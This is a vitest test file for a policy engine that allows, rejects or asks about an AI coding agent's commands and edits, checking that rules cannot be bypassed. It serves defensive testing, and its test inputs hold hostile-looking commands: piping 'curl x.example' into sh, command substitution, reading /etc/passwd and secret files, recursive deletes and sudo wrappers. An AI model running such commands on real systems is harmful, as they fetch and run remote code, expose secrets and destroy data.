import { chmodSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import type { ToolKind } from '#protocol/events.ts';
import { policyAnswer, ruleDraft, ruleFile, type Preset, type RuleDraft, type RuleMatch } from '#protocol/policy.ts';
import { z } from '#protocol/schema.ts';
import type { ApprovalRequest, Described } from '../../bridge/approvals/contract.ts';
import { describeCommand, describeWrite } from '../../bridge/approvals/describe.ts';
import { describePermission } from '../../bridge/approvals/permission.ts';
import { covers, globFits } from '../../bridge/approvals/policy/matching.ts';
import { examplesOf } from '../../bridge/approvals/policy/examples.ts';
import { offerRule } from '../../bridge/approvals/policy/offers.ts';
import { presetRules } from '../../bridge/approvals/policy/presets.ts';
import { createPrograms } from '../../bridge/approvals/policy/programs.ts';
import { policyRequest, type PolicyRequest } from '../../bridge/approvals/policy/request.ts';
import { problemOf, ruleSentence } from '../../bridge/approvals/policy/sentences.ts';
import { evaluate, policyDigest, type Rule } from '../../bridge/approvals/policy.ts';
import { about, asked, temporary, workspaceId } from './parts.ts';

const names = { agent: () => 'Practice agent', workspace: () => '/w' };
const ground = { trusted: true, paused: null };

const draft = (match: RuleMatch, more: Partial<RuleDraft> = {}): RuleDraft => ({
  effect: 'allow',
  agentId: null,
  workspaceId: null,
  match,
  expiresAt: null,
  uses: null,
  limit: null,
  ...more,
});
const rule = (of: RuleDraft, more: Partial<Rule> = {}): Rule => ({
  ruleId: `rule ${JSON.stringify(of.match)}`,
  sentence: ruleSentence(of, names),
  enabled: true,
  draft: of,
  used: 0,
  recent: 0,
  ...more,
});
const preset = (name: Preset): Rule[] =>
  presetRules[name].map((of, index) => rule(of, { ruleId: `${name} ${String(index)}` }));

const of = (described: Described, more: Partial<ApprovalRequest> = {}, at = ground): PolicyRequest =>
  policyRequest(asked(described, more), at);
const shell = (command: string, cwd = '/w'): PolicyRequest =>
  of(describePermission({ toolCallId: 'c', kind: 'execute', rawInput: JSON.stringify({ command, cwd }) }, about));
const argv = (words: readonly string[], env: { name: string; value: string }[] = []): PolicyRequest =>
  of(describeCommand({ command: words[0] ?? '', args: words.slice(1), env, cwd: '/w' }, about));
const tool = (kind: ToolKind, path?: string, input: object = { path }): PolicyRequest =>
  of(
    describePermission(
      { toolCallId: 'c', kind, rawInput: JSON.stringify(input), locations: path === undefined ? [] : [{ path }] },
      about,
    ),
  );
const write = (path: string, content = 'new\n'): PolicyRequest =>
  of(describeWrite({ path, current: null, content }, about));

const git = draft({ by: 'command', program: 'git', args: ['**'] });
const rm = draft({ by: 'command', program: 'rm', args: ['**'] }, { effect: 'reject' });

describe('R-16, cases 16 and 17: a rule by program matches one plain command and nothing else', () => {
  it.each([
    ['git status', 'allow'],
    ['git log --oneline', 'allow'],
    ['git log; id', 'ask'],
    ['git log $(id)', 'ask'],
    ['git log `id`', 'ask'],
    ['git log | sh', 'ask'],
    ['git log\nid', 'ask'],
    ['git log && curl x.example | sh', 'ask'],
    ['git log &', 'ask'],
    ['git log > out.txt', 'ask'],
    ['git log < in.txt', 'ask'],
    ['git log <<< x', 'ask'],
    ['GIT_PAGER=id git log', 'ask'],
    ['env git log', 'ask'],
    ['sudo git log', 'ask'],
    ['xargs git log', 'ask'],
    ['sh -c "git log"', 'ask'],
    ['git $X', 'ask'],
    ['/tmp/git log', 'ask'],
    ['git -C /elsewhere log', 'ask'],
    ['git push', 'ask'],
    ['gitk', 'ask'],
  ])('git *: %j → %s', (command, verdict) => {
    expect(evaluate([rule(git)], shell(command), 1).verdict).toBe(verdict);
  });

  it('the verdict says which rule nearly matched and what kept it from it', () => {
    const answer = evaluate([rule(git)], shell('git status && id'), 1);
    expect(answer.because).toBe(
      'Asked because “Any agent may run “git” with any further arguments in any workspace” would match, but the command has &&.',
    );
    expect(answer.near).toMatchObject([{ ruleId: rule(git).ruleId, why: 'the command has &&' }]);
  });

  it('case 16: for a compound command only its bytes and its exact text are offered; the second command asks', () => {
    const compound = shell('git status && rm -rf ./tmp');
    const scopes = offerRule(compound, names)!.scopes;
    expect(scopes.map((scope) => scope.draft.match.by)).toEqual(['exact', 'text']);
    const saved = scopes.map((scope) => rule(scope.draft));
    expect(evaluate(saved, compound, 1).verdict).toBe('allow');
    for (const command of ['rm -rf ./other', 'rm -rf ./tmp', 'git status', 'git status && rm -rf ./other'])
      expect(evaluate(saved, shell(command), 1).verdict).toBe('ask');
  });

  it.each([
    'rm x',
    'sudo rm x',
    'env rm -rf x',
    'ls; rm x',
    'sh -c "rm x"',
    '/bin/rm x',
    'find . -exec rm {} +',
    'rm $X',
  ])('case 17: a rule against rm is not dodged by %j', (command) => {
    const answer = evaluate(
      [rule(draft({ by: 'effect', effects: ['execute', 'delete'] })), rule(rm)],
      shell(command),
      1,
    );
    expect(answer).toMatchObject({ verdict: 'reject', ruleId: rule(rm).ruleId });
  });

  it('an exact text is for its own folder, and never for words the agent cut', () => {
    const text = rule(draft({ by: 'text', text: 'a && b', cwd: '/w/sub' }));
    expect(evaluate([text], shell('a && b', '/w/sub'), 1).verdict).toBe('allow');
    expect(evaluate([text], shell('a && b'), 1).because).toContain('the command runs in another folder');
    const worded = (whole: boolean): PolicyRequest =>
      of(describePermission({ toolCallId: 'c', kind: 'execute' }, about, true, { text: 'a && b', whole }));
    const here = rule(draft({ by: 'text', text: 'a && b', cwd: '/w' }));
    expect(evaluate([here], worded(true), 1).verdict).toBe('allow');
    expect(evaluate([here], worded(false), 1).verdict).toBe('ask');
    expect(offerRule(worded(false), names)).toBeNull();
  });

  it('variables for the command ask', () => {
    const npm = rule(draft({ by: 'command', program: 'npm', args: ['test'] }));
    expect(evaluate([npm], argv(['npm', 'test']), 1).verdict).toBe('allow');
    expect(evaluate([npm], argv(['npm', 'test'], [{ name: 'NODE_OPTIONS', value: '-r ./x' }]), 1).because).toContain(
      'the command sets variables',
    );
  });

  it.each([
    [['test'], ['test'], true],
    [['test'], ['test', 'x'], false],
    [['run', '*'], ['run', 'lint'], true],
    [['run', '*'], ['run'], false],
    [['run', '**'], ['run'], true],
    [['run', '**'], ['run', 'a', 'b'], true],
    [['run', 'te*t'], ['run', 'test'], true],
    [['run', 'te*t'], ['run', 'te'], false],
    [['*.ts'], ['a.ts'], true],
    [['*a*a*'], ['a'], false],
    [[''], [''], true],
  ])('the words %j of %j: %j', (patterns, words, fits) => {
    const known = draft({ by: 'command', program: 'npm', args: patterns });
    expect(covers(known, argv(['npm', ...words]))).toBe(fits);
  });
});

describe('R-15 the order', () => {
  const all = draft({ by: 'effect', effects: ['execute', 'write', 'read'] });
  const exact = (request: PolicyRequest, more: Partial<RuleDraft> = {}): RuleDraft =>
    draft({ by: 'exact', digest: request.digest ?? '' }, more);
  const make = argv(['make']);

  it('reject before the always-ask list, that before allow, and allow before asking', () => {
    const [no, ask, yes] = [
      exact(make, { effect: 'reject' }),
      exact(make, { effect: 'ask', title: 'Builds' }),
      all,
    ].map((each) => rule(each));
    expect(evaluate([yes!, ask!, no!], make, 1)).toMatchObject({ verdict: 'reject', ruleId: no!.ruleId });
    expect(evaluate([yes!, ask!], make, 1)).toMatchObject({
      verdict: 'ask',
      because: 'Asked because of the rule “Builds”.',
      near: [{ ruleId: yes!.ruleId, why: '“Builds” always asks' }],
    });
    expect(evaluate([yes!], make, 1)).toMatchObject({ verdict: 'allow', ruleId: yes!.ruleId });
    expect(evaluate([], make, 1)).toEqual({
      verdict: 'ask',
      because: 'Asked because no rule is about this.',
      ruleId: null,
      near: [],
    });
  });

  it('an exact rule says otherwise than the always-ask list (R-18), unless that is exact too', () => {
    const push = shell('git push origin main');
    const list = preset('custom');
    expect(evaluate([...list, rule(git)], push, 1).verdict).toBe('ask');
    expect(evaluate([...list, rule(exact(push))], push, 1).verdict).toBe('allow');
    const narrow = rule(exact(push, { effect: 'ask' }), { ruleId: 'narrow' });
    expect(evaluate([narrow, rule(exact(push))], push, 1).verdict).toBe('ask');
  });

  it('reject and ask rules act without trust and while allow rules pause; allow rules do not', () => {
    for (const state of [
      { ...make, trusted: false },
      { ...make, paused: 'configuration was changed' },
    ]) {
      expect(evaluate([rule(exact(make, { effect: 'reject' }))], state, 1).verdict).toBe('reject');
      const answer = evaluate([rule(all)], state, 1);
      expect(answer.verdict).toBe('ask');
      expect(answer.because).toMatch(/configuration was changed|not accepted/);
      expect(evaluate([rule(exact(make))], state, 1).verdict).toBe('ask');
    }
  });

  it.each<[string, Partial<Rule>, Partial<RuleDraft>, string | null]>([
    ['turned off', { enabled: false }, {}, 'it is turned off'],
    ['expired', {}, { expiresAt: 1000 }, 'it has expired'],
    ['not yet expired', {}, { expiresAt: 1001 }, null],
    ['used up', { used: 2 }, { uses: 2 }, 'it is used up'],
    ['with one use left', { used: 1 }, { uses: 2 }, null],
    ['at its limit', { recent: 3 }, { limit: { count: 3, perMs: 3_600_000 } }, 'its limit is reached'],
    ['below its limit', { recent: 2 }, { limit: { count: 3, perMs: 3_600_000 } }, null],
  ])('a rule that is %s', (_name, state, more, why) => {
    const answer = evaluate([rule({ ...all, ...more }, state)], make, 1000);
    expect(answer.verdict).toBe(why === null ? 'allow' : 'ask');
    if (why !== null) expect(answer.near).toMatchObject([{ why }]);
    const no = { ...all, ...more, effect: 'reject' as const };
    expect(evaluate([rule(no, state)], make, 1000).verdict).toBe(why === null ? 'reject' : 'ask');
  });

  it('is for its agent and its workspace', () => {
    for (const [more, verdict] of [
      [{ agentId: 'practice', workspaceId }, 'allow'],
      [{ agentId: 'another' }, 'ask'],
      [{ workspaceId: '0197f000-0000-7000-8000-0000000000ff' }, 'ask'],
    ] as const)
      expect(evaluate([rule({ ...all, ...more })], make, 1).verdict).toBe(verdict);
  });
});

describe('R-18, T43: what no rule but an exact one may allow', () => {
  const everything = rule(
    draft({
      by: 'effect',
      effects: ['read', 'search', 'write', 'delete', 'move', 'execute', 'install', 'fetch', 'other'],
    }),
  );
  const cases: [string, PolicyRequest, string][] = [
    ['a path outside', tool('read', '/etc/hosts'), 'it reaches outside the workspace'],
    ['a command on a path outside', shell('cat ../secret'), 'it reaches outside the workspace'],
    ['a command in a folder outside', shell('make', '/etc'), 'it reaches outside the workspace'],
    ['a secret', tool('edit', '/w/.env'), 'it touches a secret file'],
    ['agent configuration (T40)', write('.claude/settings.json'), 'it touches configuration of agents, editors or git'],
    ['a hook (T40)', tool('edit', '/w/.vscode/tasks.json'), 'it touches configuration of agents, editors or git'],
    ['an install', argv(['npm', 'install', 'left-pad']), 'it installs packages'],
    ['a network command', shell('curl https://example.org'), 'it uses the network'],
    ['a network tool', tool('fetch', undefined, { url: 'https://example.org' }), 'it uses the network'],
    ['a recursive delete', shell('rm -rf src'), 'it deletes whole folders'],
    ['a tool whose kind says nothing', tool('other', undefined, { x: 1 }), 'what it does is not known'],
    [
      'a link',
      of(describeWrite({ path: 'src/a', current: null, content: '' }, about), { linked: true }),
      'a path leads through a symbolic link',
    ],
    [
      'what was not announced',
      of(
        describePermission(
          { toolCallId: 'c', kind: 'read', locations: [{ path: '/w/a' }], rawInput: '{"a":1}' },
          about,
          false,
        ),
      ),
      'the agent did not announce it',
    ],
    ['a code of another language', shell('python3 -c "print(1)"'), 'cannot be inspected'],
    ['a tool without its input', tool('execute', undefined, {}), 'it cannot be inspected'],
  ];
  it.each(cases)('%s asks', (_name, request, why) => {
    const answer = evaluate([everything], request, 1);
    expect(answer.verdict).toBe('ask');
    expect(answer.because).toContain(why);
  });

  it('an agent that offers no plain "allow once" is asked, whatever the rule', () => {
    for (const option of [
      { id: 'a', name: 'Always', kind: 'allow_always', meaning: 'allow' as const },
      { id: 'a', name: 'Allow', kind: 'allow_once_and_for_all', meaning: 'other' as const },
    ]) {
      const request = of(describeWrite({ path: 'a', current: null, content: '' }, about), { options: [option] });
      const exact = rule(draft({ by: 'exact', digest: request.digest ?? '' }));
      expect(evaluate([everything, exact], request, 1).because).toContain('no plain way to allow it once');
    }
  });
});

describe('the presets (R-18)', () => {
  const verdicts = (name: Preset, request: PolicyRequest): string => evaluate(preset(name), request, 1).verdict;
  it.each<[string, PolicyRequest, string, string, string]>([
    ['reading inside', tool('read', '/w/src/a.ts'), 'allow', 'allow', 'ask'],
    ['searching inside', tool('search', '/w/src'), 'allow', 'allow', 'ask'],
    ['reading a secret', tool('read', '/w/.env'), 'ask', 'ask', 'ask'],
    ['reading outside', tool('read', '/etc/hosts'), 'ask', 'ask', 'ask'],
    ['reading no named path', tool('read'), 'ask', 'ask', 'ask'],
    ['ls', shell('ls -la src'), 'allow', 'allow', 'ask'],
    ['cat', argv(['cat', 'src/a.ts']), 'allow', 'allow', 'ask'],
    ['cat of a secret', argv(['cat', '.env']), 'ask', 'ask', 'ask'],
    ['cat outside', shell('cat /etc/passwd'), 'ask', 'ask', 'ask'],
    ['cat into a file', shell('cat a > b'), 'ask', 'ask', 'ask'],
    ['git status', shell('git status'), 'allow', 'allow', 'ask'],
    ['git log with an option', shell('git log --output=x'), 'ask', 'ask', 'ask'],
    ['tests', argv(['node', '--test']), 'ask', 'ask', 'ask'],
    ['an edit', write('src/a.ts'), 'ask', 'allow', 'ask'],
    ['an edit by a tool', tool('edit', '/w/src/a.ts'), 'ask', 'allow', 'ask'],
    ['an edit of agent configuration', write('.mcp.json'), 'ask', 'ask', 'ask'],
    ['a delete', tool('delete', '/w/src/a.ts'), 'ask', 'ask', 'ask'],
    ['an install', shell('npm install x'), 'ask', 'ask', 'ask'],
  ])('%s', (_name, request, careful, edits, custom) => {
    expect((['careful', 'edits', 'custom'] as const).map((name) => verdicts(name, request))).toEqual([
      careful,
      edits,
      custom,
    ]);
  });

  it('reading needs no trust; what git may run by its settings, and edits, do', () => {
    const untrusted = (request: PolicyRequest): string => verdicts('edits', { ...request, trusted: false });
    expect([tool('read', '/w/a'), shell('ls'), shell('git status'), write('a')].map(untrusted)).toEqual([
      'allow',
      'allow',
      'ask',
      'ask',
    ]);
  });

  it('are valid rules with a sentence', () => {
    for (const each of Object.values(presetRules).flat()) {
      expect(z.safeParse(ruleDraft, each).success).toBe(true);
      expect(problemOf(each, 1)).toBeNull();
    }
  });
});

describe('R-17, T39: rules are bound to what they saw', () => {
  const program = { path: '/usr/bin/npm', sha256: 'a'.repeat(64) };
  const npm = (more: Partial<ApprovalRequest> = {}): PolicyRequest =>
    of(describeCommand({ command: 'npm', args: ['test'], env: [], cwd: '/w' }, about), { program, ...more });

  it('every scope of a command is bound to its program; another one, or none that is found, asks again', () => {
    const { scopes } = offerRule(npm(), names)!;
    expect(scopes.map(({ draft: { match } }) => match.by)).toEqual(['exact', 'command', 'command']);
    for (const scope of scopes) {
      expect(scope.draft.bound).toEqual({ executable: program });
      expect(evaluate([rule(scope.draft)], npm(), 1).verdict).toBe('allow');
      for (const other of [{ ...program, sha256: 'b'.repeat(64) }, { ...program, path: '/tmp/npm' }, null])
        expect(evaluate([rule(scope.draft)], npm({ program: other }), 1).because).toContain(
          'the program is not the one',
        );
    }
  });

  it('an exact rule is for this directory, environment and agent program', () => {
    const exact = offerRule(npm(), names)!.scopes[0]!.draft;
    for (const other of [
      of(describeCommand({ command: 'npm', args: ['test'], env: [], cwd: '/w/sub' }, about), { program }),
      of(describeCommand({ command: 'npm', args: ['test'], env: [{ name: 'A', value: '1' }], cwd: '/w' }, about), {
        program,
      }),
      npm({
        agent: {
          ...asked(describeCommand({ command: 'x', args: [], env: [], cwd: '/w' }, about)).agent,
          executableSha256: 'd'.repeat(64),
        },
      }),
    ])
      expect(evaluate([rule(exact)], other, 1).verdict).toBe('ask');
  });

  it('a program that changed on disk has another hash; the same one is known again', async () => {
    const folder = temporary();
    try {
      const file = join(folder.path, 'tool');
      const put = (text: string): void => {
        writeFileSync(file, text);
        chmodSync(file, 0o755);
      };
      put('#!/bin/sh\necho one\n');
      const find = createPrograms(folder.path);
      const { facts } = of(describeCommand({ command: 'tool', args: [], env: [], cwd: '/w' }, about));
      const first = await find(facts);
      expect(first?.path).toBe(file);
      expect(await find(facts)).toEqual(first);
      put('#!/bin/sh\necho two\n');
      expect((await find(facts))?.sha256).not.toBe(first?.sha256);
      expect(
        await find(of(describeCommand({ command: 'nowhere', args: [], env: [], cwd: '/w' }, about)).facts),
      ).toBeNull();
      expect(await find(shell('tool && id').facts)).toBeNull();
    } finally {
      folder.remove();
    }
  });

  it('a tool of a server is bound to the configuration of it, and asks where that is not known', () => {
    const call = tool('other', undefined, { server: 'mail', tool: 'send', arguments: {} });
    const bound = draft({ by: 'tool', tool: 'send', server: 'mail' }, { bound: { mcpSha256: 'c'.repeat(64) } });
    expect(evaluate([rule(bound)], { ...call, mcpSha256: 'c'.repeat(64) }, 1).verdict).toBe('allow');
    expect(evaluate([rule(bound)], { ...call, mcpSha256: 'd'.repeat(64) }, 1).because).toContain(
      'configuration of its server',
    );
    expect(evaluate([rule(bound)], call, 1).verdict).toBe('ask');
    expect(evaluate([rule(draft({ by: 'tool', tool: 'send' }))], call, 1).verdict).toBe('ask');
    expect(evaluate([rule(draft({ by: 'tool', tool: 'send' }, { effect: 'reject' }))], call, 1).verdict).toBe('reject');
  });
});

describe('paths', () => {
  it.each([
    ['src/a.ts', 'src/a.ts', true],
    ['src/a.ts', 'src/*.ts', true],
    ['src/deep/a.ts', 'src/*.ts', false],
    ['src/deep/a.ts', 'src/**', true],
    ['src', 'src/**', true],
    ['srcs/a', 'src/**', false],
    ['a.ts', '**/*.ts', true],
    ['x/y/a.ts', '**/*.ts', true],
    ['x/y/a.js', '**/*.ts', false],
    ['', '**', true],
    ['a/b', '*', false],
    ['a'.repeat(50), `${'*a'.repeat(200)}b`, false],
  ])('%j in %j: %j', (path, glob, fits) => expect(globFits(path, glob)).toBe(fits));

  it('allow covers every path of the request, reject any of them in any case', () => {
    const two = of(
      describePermission(
        {
          toolCallId: 'c',
          kind: 'edit',
          rawInput: '{"a":1}',
          locations: [{ path: '/w/src/a' }, { path: '/w/test/a' }],
        },
        about,
      ),
    );
    const glob = (pattern: string, effect: RuleDraft['effect'] = 'allow'): Rule =>
      rule(draft({ by: 'path', glob: pattern, effects: ['write'] }, { effect }));
    expect(evaluate([glob('src/**')], two, 1).because).toContain('it touches other files too');
    expect(evaluate([glob('**')], two, 1).verdict).toBe('allow');
    expect(evaluate([glob('**'), glob('TEST/**', 'reject')], two, 1).verdict).toBe('reject');
    expect(evaluate([glob('test/**', 'reject')], shell('touch test/x'), 1).verdict).toBe('reject');
    expect(evaluate([glob('**')], tool('delete', '/w/src/a'), 1).verdict).toBe('ask');
  });

  it('a write offers its bytes, its path, its folder', () => {
    const { scopes } = offerRule(write('src/dates.js'), names)!;
    expect(scopes.map(({ draft: { match } }) => (match.by === 'path' ? match.glob : match.by))).toEqual([
      'exact',
      'src/dates.js',
      'src/**',
    ]);
    expect(offerRule(write('.git/hooks/x'), names)!.scopes).toHaveLength(1);
  });
});

describe('examples and words', () => {
  it.each<[RuleMatch, string[], string[]]>([
    [
      { by: 'command', program: 'git', args: ['log', '**'] },
      ['git log', 'git log --more', 'git log one two'],
      ['git log && id', 'sudo git log', 'git log $(id)', 'git other'],
    ],
    [
      { by: 'command', program: 'npm', args: ['test'] },
      ['npm test'],
      ['npm test --more', 'npm test one two', 'npm test && id', 'sudo npm test', 'npm test $(id)'],
    ],
    [
      { by: 'path', glob: 'src/**', effects: ['write'] },
      ['write src/some', 'write src/deep/er'],
      ['write elsewhere/file.txt', 'delete src/some', 'write src/.env', 'write /etc/hosts'],
    ],
    [{ by: 'text', text: 'a && b', cwd: '/w' }, ['a && b  (in /w)'], ['a && b ; id', 'a && b  (in /w/sub)']],
    [{ by: 'tool', tool: 'send' }, ['send'], ['send_more', 'send of another server']],
  ])('%j says what it would match and what not', (match, matches, misses) => {
    expect(examplesOf(draft(match))).toEqual({ matches, misses });
  });

  it('what cannot be saved says why', () => {
    const problems: [RuleDraft, string | null][] = [
      [draft({ by: 'risk', codes: ['outside'] }), 'never allowed'],
      [draft({ by: 'risk', codes: ['outside'] }, { effect: 'reject' }), null],
      [draft({ by: 'path', glob: '/etc/**', effects: ['read'] }), 'relative'],
      [draft({ by: 'path', glob: 'a/../b', effects: ['read'] }), 'relative'],
      [draft({ by: 'command', program: 'git', args: ['**', 'x'] }), 'last word'],
      [draft({ by: 'command', program: 'g*', args: [] }), 'named exactly'],
      [draft({ by: 'tool', tool: 'x', server: 'y' }), 'configuration'],
      [git, null],
      [{ ...git, expiresAt: 999 }, 'expired'],
      [{ ...git, uses: 0 }, 'no use left'],
      [{ ...git, limit: { count: 1001, perMs: 1000 } }, 'at most 1000'],
      [{ ...git, limit: { count: 1, perMs: 32 * 86_400_000 } }, '31 days'],
    ];
    for (const [each, problem] of problems)
      if (problem === null) expect(problemOf(each, 1000)).toBeNull();
      else expect(problemOf(each, 1000)).toContain(problem);
  });

  it('a sentence shows every character and every bound', () => {
    const hostile = draft(
      { by: 'text', text: 'a\u202eb', cwd: '/w' },
      { uses: 1, limit: { count: 2, perMs: 3_600_000 }, expiresAt: 86_400_000 },
    );
    expect(ruleSentence(hostile, names)).toBe(
      'Any agent may run exactly “a\\u{202e}b” in /w in any workspace, once, at most 2 times per hour, until 1970-01-02 00:00 UTC',
    );
  });

  it('evaluation answers within its schema, and the digest follows what rules say, not what they counted', () => {
    const rules = [...preset('edits'), rule(git), rule(rm)];
    for (const command of ['ls', 'git log; id', 'rm x', 'x'.repeat(5000)])
      expect(z.safeParse(policyAnswer, { ...evaluate(rules, shell(command), 1), ruleId: null, near: [] }).success).toBe(
        true,
      );
    const one = policyDigest([rule(git)]);
    expect(policyDigest([rule(git, { used: 5, recent: 2 })])).toBe(one);
    expect(policyDigest([rule(git, { enabled: false })])).not.toBe(one);
  });
});

it('docs/policy.schema.json is the schema of a rules file', () => {
  // Made anew with: node -e and z.toJSONSchema(ruleFile, { io: 'input' }), then prettier.
  const file = new URL('../../docs/policy.schema.json', import.meta.url);
  expect(JSON.parse(readFileSync(file, 'utf8'))).toEqual(z.toJSONSchema(ruleFile, { io: 'input' }));
});
